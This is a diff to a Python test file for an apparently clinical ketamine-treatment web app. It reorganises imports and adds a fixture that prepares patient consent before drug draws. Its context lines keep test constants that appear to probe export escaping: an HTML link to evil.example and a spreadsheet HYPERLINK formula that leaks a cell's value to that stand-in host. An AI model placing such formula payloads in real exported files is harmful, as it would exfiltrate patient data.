@@ -28,7 +28,13 @@ from ketaflow.patients.models import Patient
 from ketaflow.treatment.demo import load_demo as treatment_demo
 from ketaflow.web.export import csv_cell, csv_text, pdf_text
 from tests.web.conftest import World
-from tests.web.test_ledger import Stock, draw, receive, waste
+from tests.web.test_infusions import make_ready
+from tests.web.test_ledger import (
+    Stock,
+    draw,
+    receive,
+    waste,
+)
 from tests.web.test_outcomes import RELAPSE, history
 from tests.web.test_outcomes import pdf_text as pdf_streams
 
@@ -37,6 +43,14 @@ LINK = '<a href="https://evil.example/x">pay</a>'
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
 # A PNG of a size no report draws: if reportlab ever read an <img> tag, its XObject would say so.
 ODD_SIZE = (7, 5)
+
+
+@pytest.fixture(autouse=True)
+def _patient_drawable(request: pytest.FixtureRequest) -> None:
+    """Ketamine is drawn only for a patient with a signed candidacy and a current consent."""
+    if "world" in request.fixturenames:
+        world = request.getfixturevalue("world")
+        make_ready(world, world.patient)
 
 
 @pytest.fixture
